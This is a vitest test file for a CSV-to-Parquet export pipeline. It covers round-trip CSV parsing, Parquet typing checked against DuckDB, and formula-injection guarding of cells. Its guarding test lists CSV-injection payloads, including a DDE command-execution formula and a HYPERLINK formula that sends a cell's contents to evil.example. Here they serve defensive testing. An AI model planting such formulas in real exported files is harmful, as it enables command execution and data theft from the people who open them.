import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecords } from '../../src/core/export/csvRecords.ts';
import { parquetTypes } from '../../src/core/export/parquetTypes.ts';
import { csvToParquet, guardedColumns } from '../../src/core/export/toParquet.ts';
import { generateCsv } from '../../src/core/generate/generate.ts';
import { defaultLookups } from '../../src/core/lookups/defaults.ts';
import { withDefaults } from '../../src/core/options.ts';
import { csvLine, quoteCell, textCell, unguardText } from '../../src/core/output/csv.ts';
import { tableFiles } from '../../src/core/pipeline/tables.ts';
import { runInMemory } from '../../src/core/pipeline/runInMemory.ts';
import { expectSameTable, parquetRows, parquetSchema } from '../support/duckdbCompare.ts';
import { ParquetRows } from '../../src/core/export/ParquetRows.ts';

const encoder = new TextEncoder();

async function* blocks(bytes: Uint8Array, sizes: number[]): AsyncGenerator<Uint8Array> {
  let at = 0;
  for (let k = 0; at < bytes.length; k++) {
    const size = sizes[k % sizes.length]!;
    yield bytes.slice(at, at + size);
    at += size;
  }
}

async function all(records: AsyncIterable<string[]>): Promise<string[][]> {
  const out: string[][] = [];
  for await (const record of records) out.push(record);
  return out;
}

describe('csvRecords: reading back the CSV this app writes', () => {
  const cell = fc.string({ unit: fc.constantFrom('a', 'é', '€', '😀', ',', '"', '\r\n', '\n', ' ', '=', "'") });
  const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 20 });

  it('gives the cells written, whatever the blocks it is read in', async () => {
    await fc.assert(
      fc.asyncProperty(table, fc.array(fc.integer({ min: 1, max: 17 }), { minLength: 1, maxLength: 5 }), async (rows, sizes) => {
        const bytes = encoder.encode(rows.map((row) => csvLine(row.map(quoteCell))).join(''));
        expect(await all(csvRecords(blocks(bytes, sizes)))).toEqual(rows);
      }),
      { numRuns: 300 },
    );
  });

  it('says so when the file ends inside a record', async () => {
    await expect(all(csvRecords(blocks(encoder.encode('a,b\r\n1,"2\r\n'), [4])))).rejects.toThrow('cut short');
  });
});

describe('unguardText undoes textCell', () => {
  const owasp = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,1)', '\tfoo', '\rfoo', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=', '-x@y.com', '-5.00', "'quoted", "'-5.00", 'plain'];
  it.each(owasp)('%j', (value) => {
    const written = textCell(value);
    const [read] = written.startsWith('"') ? [written.slice(1, -1).replaceAll('""', '"')] : [written];
    expect(unguardText(read!)).toBe(value);
  });

  it('cannot tell a value that began with an apostrophe and a formula character from a guarded one', () => {
    expect(unguardText(textCell("'=1"))).toBe('=1');
  });
});

describe('ParquetRows', () => {
  it('keeps empty cells as nulls in every type, before and after numbers in the same row group', async () => {
    const rows = [
      ['1', '1.5', '2024-02-29', 'a'],
      ['', '', '', ''],
      ['-9007199254740993', '-0.25', '1970-01-01', 'é,"'],
      ['4', '', '2000-12-31', ''],
      ['', '2', '', 'z'],
    ];
    const writer = new ParquetRows(['n', 'x', 'd', 's'], ['int64', 'double', 'date', 'string'], 2);
    const parts = rows.map((row) => writer.add(row)).filter((part) => part !== null);
    parts.push(writer.finish());
    const path = join(mkdtempSync(join(tmpdir(), 'rows-')), 'rows.parquet');
    writeFileSync(path, Buffer.concat(parts));
    expect(await parquetSchema(path)).toEqual([['n', 'BIGINT'], ['x', 'DOUBLE'], ['d', 'DATE'], ['s', 'VARCHAR']]);
    expect(await parquetRows(path)).toEqual(rows.map((row) => row.map((cell, i) => (cell === '' ? null : i === 1 ? String(Number(cell)) : cell))));
  });

  it('refuses a cell that is not of its column’s type, naming the column', () => {
    const writer = new ParquetRows(['quantity'], ['int64']);
    expect(() => writer.add(['2.5'])).toThrow('Column quantity: "2.5" is not a whole number.');
  });
});

describe('Parquet files of a job, read back by DuckDB', () => {
  const hostile =
    'order_id,product_name,category,quantity,unit_price,discount_percent,region,sale_date\n' +
    `=1+1,"=HYPERLINK(""x"")",Electronics,2,10,0,North America,2024-03-05\n` +
    `@2,-Gift,=Electronics,1,5,0,North America,2024-03-05\n` +
    `ORD-9,"Multi\nline, ""quoted""",Grocery,3,2.5,0.1,Europe,2024-04-01\n` +
    `+3,Café ☕,Grocery,oops,1,0,Europe,2024-04-01,extra,"fields"\n`;
  const generated = [...generateCsv({ rows: 3000, seed: 5, clean: false, endDate: '2024-06-30' })].join('');

  it.each([
    ['hostile cells', hostile],
    ['3,000 generated dirty rows', generated],
  ])('every table of %s has the CSV rows and the declared types', async (_name, input) => {
    const result = await runInMemory(input, withDefaults({ reference_date: '2024-06-30' }), defaultLookups());
    const dir = mkdtempSync(join(tmpdir(), 'parquet-'));
    const files: Array<[string, string]> = [['cleaned_rows', result.cleanedCsv], ['rejected_rows', result.rejectedCsv], ...tableFiles(result.tables).map(([file, csv]): [string, string] => [file.replace(/\.csv$/, ''), csv])];
    expect(files).toHaveLength(12);
    for (const [name, csv] of files) {
      const parts: Uint8Array[] = [];
      // Small row groups and blocks: the file is read and written in many pieces.
      for await (const part of csvToParquet(name, blocks(encoder.encode(csv), [4096]), 700)) parts.push(part);
      writeFileSync(join(dir, `${name}.csv`), csv);
      writeFileSync(join(dir, `${name}.parquet`), Buffer.concat(parts));
      const header = (await all(csvRecords(blocks(encoder.encode(csv), [1 << 20]))))[0]!;
      const guarded = guardedColumns(name, header);
      const types = parquetTypes(name, header.map((c, i) => (guarded[i] ? unguardText(c) : c)));
      await expectSameTable(join(dir, `${name}.parquet`), join(dir, `${name}.csv`), types, guarded);
    }
    expect(Object.fromEntries(await parquetSchema(join(dir, 'cleaned_rows.parquet')))).toEqual({
      row_number: 'BIGINT',
      order_id: 'VARCHAR',
      product_name: 'VARCHAR',
      category: 'VARCHAR',
      quantity: 'BIGINT',
      unit_price: 'DOUBLE',
      discount_percent: 'DOUBLE',
      region: 'VARCHAR',
      sale_date: 'DATE',
      sale_ts: 'BIGINT',
      customer_email: 'VARCHAR',
      revenue: 'DOUBLE',
      anomaly_flag: 'VARCHAR',
    });
  }, 60_000);
});
